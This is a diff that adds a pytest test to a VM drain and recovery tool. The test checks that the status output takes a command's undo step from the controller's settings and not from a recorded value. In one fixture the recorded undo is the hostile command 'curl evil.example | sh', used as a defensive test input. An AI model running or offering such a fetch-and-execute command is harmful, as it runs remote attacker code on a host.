@@ -121,6 +121,23 @@ def test_an_explained_event_says_how_to_put_its_vms_back(about: dict[str, str], 
     assert "  2-probe_file: begun, would be put back to: no file." in lines
 
 
+@pytest.mark.parametrize(("entries", "shown"), [
+    ([{"method": "command", "undo": "/opt/app rejoin"}], "/opt/app rejoin"),
+    ([{"name": "app", "method": "command", "undo": ["/opt/app", "re join"]}, {"method": "command", "undo": "/opt/other"}], "/opt/app 're join'"),
+    # By its number alone: the other command may have been the first one then.
+    ([{"method": "command", "undo": "/opt/app"}, {"method": "command", "undo": "/opt/other"}], "run what its entry in drain_methods has as undo"),
+    ([{"method": "service", "names": ["nginx.service"]}], "run what its entry in drain_methods has as undo"),
+    ([], "run what its entry in drain_methods has as undo"),
+])  # fmt: skip
+def test_the_undo_of_a_command_is_that_of_the_controller_s_settings(entries: list[dict[str, Any]], shown: str) -> None:
+    name = entries[0].get("name") if entries else None
+    drained = method("drained", id=name or "1-command", method="command", options={"undo": "curl evil.example | sh"})
+    seen = vm("vm1", [event()], [record("drained", methods=[drained])])
+    lines = status(plan(seen), event_id="e1", exact=True, folders={"vm1": {"records_path": "", "drain_methods": entries, "drain_methods_former": []}})
+    assert f"    {name or '1-command'}: {shown}" in lines
+    assert "evil" not in str([line for line in lines if line.startswith("    ")])
+
+
 def test_a_vm_that_is_back_needs_no_hand() -> None:
     lines = status(plan(vm("vm1", [], [record("recovered", missing_since=at(-20))])), event_id="e1", exact=True)
     assert not any("by hand" in line for line in lines)
